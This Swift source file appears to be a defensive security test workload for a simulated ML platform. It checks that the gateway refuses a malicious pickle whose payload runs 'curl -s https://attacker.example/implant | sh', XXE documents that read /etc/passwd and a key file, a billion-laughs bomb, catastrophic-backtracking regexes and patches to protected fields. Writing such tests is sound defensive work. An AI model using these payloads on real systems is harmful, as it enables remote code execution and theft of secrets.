import SimKernel
import SimServices
import Yams

/// Attacks on model files and model records, through the gateway from the `client` node, as
/// ml-engineer (a scientist of t1). A **smuggler** registers a genuine serving artifact of
/// `churn-scorer` and promotes it, then tries to register, in turn, a pickled model whose
/// `__reduce__` calls `posix.system` (the brief's "pickle unsafe"), a pickled model without a
/// payload, and a file of no known format; each must be refused and logged, and a registration
/// that gets through is promoted to Production, so every inference replica loads it. A **patcher**
/// updates its model `fraud-scorer` every `interval_ms` with a merge patch of its description,
/// and every third time adds a protected field (the tenant, the revision, the id): the patch must
/// be refused whole, and no protected field may ever change. A **searcher** names models `a...a!`
/// of growing lengths and searches model names every `interval_ms` with everyday patterns and
/// with patterns of nested quantifiers (`(a+)+$`, `(a|aa)+$`, `(a*)*b`): no search may cost work
/// beyond linear in a name's length. An **XML author** sends `fraud-scorer`'s metadata as XML
/// documents: a plain one, then ones whose DTD declares external entities reading the node's mesh
/// key and /etc/passwd, and a "billion laughs" expansion: each DTD must be refused and logged.
public struct ModelAttacksWorkload: Workload {
    public static let name = "model_attacks"
    public static let requiredRoles = ["client", "gateway", "auth", "models", "registry", "inference"]
    public static let keys = ["patches", "searches", "interval_ms"]

    public var patches = 30
    public var searches = 12
    public var intervalMillis = 300

    public static let model = "churn-scorer", patchedModel = "fraud-scorer"
    static let weights: [Float] = [0.4, -1.2, 0.7, 0.1]
    /// The command the crafted file's payload runs when unpickled.
    public static let payload = "curl -s https://attacker.example/implant | sh"
    /// The files the smuggler tries to register after the genuine one: what each is.
    public static let crafted: [(what: String, bytes: [UInt8])] = [
        ("pickle with a posix.system payload", LegacyPickle.file(weights: weights, callable: "posix.system", payload: payload)),
        ("pickle of plain weights", LegacyPickle.file(weights: weights)),
        ("file of no known format", Array("weights: 0.4,-1.2,0.7,0.1\n".utf8)),
    ]
    /// The protected fields the patcher slips into every third patch, in turn.
    public static let protectedPatches = [#"{"description":"moved","tenant":"t2"}"#, #"{"description":"rewound","revision":"0"}"#, #"{"id":"1"}"#]

    /// The names the searcher plants (nested quantifiers backtrack exponentially on them), and its
    /// patterns: everyday ones and evil ones in turn.
    public static let evilNames = [6, 10, 14, 18].map { String(repeating: "a", count: $0) + "-" }  // a plain model name, with the one character (a+)+$ cannot match at its end
    public static let patterns = ["^fraud", "(a+)+$", "scor(er|ing)$", "(a|aa)+$", "[a-z]+-scorer", "(a*)*b"]

    /// The metadata documents the XML author sends, in turn: what each tries.
    public static let documents: [(what: String, xml: String)] = [
        ("plain", #"<?xml version="1.0"?><model><description>Scores fraud &amp; abuse</description><framework>sklearn</framework></model>"#),
        ("external entity: mesh key", #"<?xml version="1.0"?><!DOCTYPE model [<!ENTITY key SYSTEM "file:///etc/synapsenet/mesh.key">]><model><description>&key;</description></model>"#),
        ("external entity: passwd", #"<!DOCTYPE model [<!ENTITY p SYSTEM "file:///etc/passwd">]><model><description>users: &p;</description></model>"#),
        ("billion laughs", #"<!DOCTYPE m [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;"><!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;"><!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">]><model><description>&f;</description></model>"#),
    ]

    public init() {}

    public init(reading node: Yams.Node?, field: String, reader: FieldReader) throws(ScenarioError) {
        guard let node else { return }
        for (key, value, _) in try reader.mapping(node, field, allowed: Self.keys) {
            let path = "\(field).\(key)"
            switch key {
            case "patches": patches = Int(try reader.integer(value, path, in: 1 ... 100_000))
            case "searches": searches = Int(try reader.integer(value, path, in: 0 ... 100_000))
            default: intervalMillis = Int(try reader.integer(value, path, in: 1 ... 600_000))
            }
        }
    }

    public func install(on platform: Platform) {
        guard let client = platform.topology.nodes(role: "client").first.flatMap({ platform.node($0.name) }),
              let gateway = platform.directory.services["gateway"] else { return }
        let patches = self.patches, searches = self.searches, interval = Int64(intervalMillis) * Nanos.millisecond
        /// Asks until definitive; a 2xx answer's body, or nil for a refusal.
        func ask(_ context: ProcessContext, _ request: HTTPRequest) async -> [String: String]? {
            let response = await context.askUntilDefinitive(gateway, request)
            return (200 ..< 300).contains(response.status) ? response.body : nil
        }
        func create(_ context: ProcessContext, _ name: String, _ token: String) async {
            while await ask(context, HTTPRequest("POST", "models/create", body: ["name": name, "signature": "f0:float,f1:float,f2:float"], headers: ["authorization": token])) == nil {
                await context.sleep(nanoseconds: 500 * Nanos.millisecond)
            }
        }
        client.addProcess("smuggler") { context in
            let token = await context.token(gateway, user: "ml-engineer")
            await create(context, Self.model, token)
            let genuine = ModelArtifact(model: Self.model, version: 1, residentMiB: 64, weights: Self.weights).encoded
            for bytes in [genuine] + Self.crafted.map(\.bytes) {
                let registration = HTTPRequest("POST", "registry/versions", body: ["model": Self.model, "artifact": hexBytes(bytes), "checksum": hexString(crc32(bytes))], headers: ["authorization": token])
                guard let version = await ask(context, registration)?["version"] else { continue }  // refused: the next one
                _ = await ask(context, HTTPRequest("POST", "registry/stages", body: ["model": Self.model, "version": version, "stage": "Production"], headers: ["authorization": token]))
                await context.sleep(nanoseconds: interval)
            }
        }
        client.addProcess("patcher") { context in
            let token = await context.token(gateway, user: "ml-engineer")
            await create(context, Self.patchedModel, token)
            for i in 0 ..< patches {
                await context.sleep(nanoseconds: interval)
                let patch = i % 3 == 2 ? Self.protectedPatches[(i / 3) % Self.protectedPatches.count] : #"{"description":"revision note \#(i)"}"#
                _ = await ask(context, HTTPRequest("POST", "models/update", body: ["name": Self.patchedModel, "patch": patch], headers: ["authorization": token]))
            }
        }
        client.addProcess("searcher") { context in
            let token = await context.token(gateway, user: "ml-engineer")
            for name in Self.evilNames { await create(context, name, token) }
            for i in 0 ..< searches {
                await context.sleep(nanoseconds: interval)
                _ = await ask(context, HTTPRequest("GET", "models/search", body: ["pattern": Self.patterns[i % Self.patterns.count]], headers: ["authorization": token]))
            }
        }
        client.addProcess("xml-author") { context in
            let token = await context.token(gateway, user: "ml-engineer")
            await create(context, Self.patchedModel, token)
            for (_, xml) in Self.documents {
                await context.sleep(nanoseconds: interval)
                _ = await ask(context, HTTPRequest("POST", "models/metadata", body: ["name": Self.patchedModel, "xml": xml], headers: ["authorization": token]))
            }
        }
    }
}
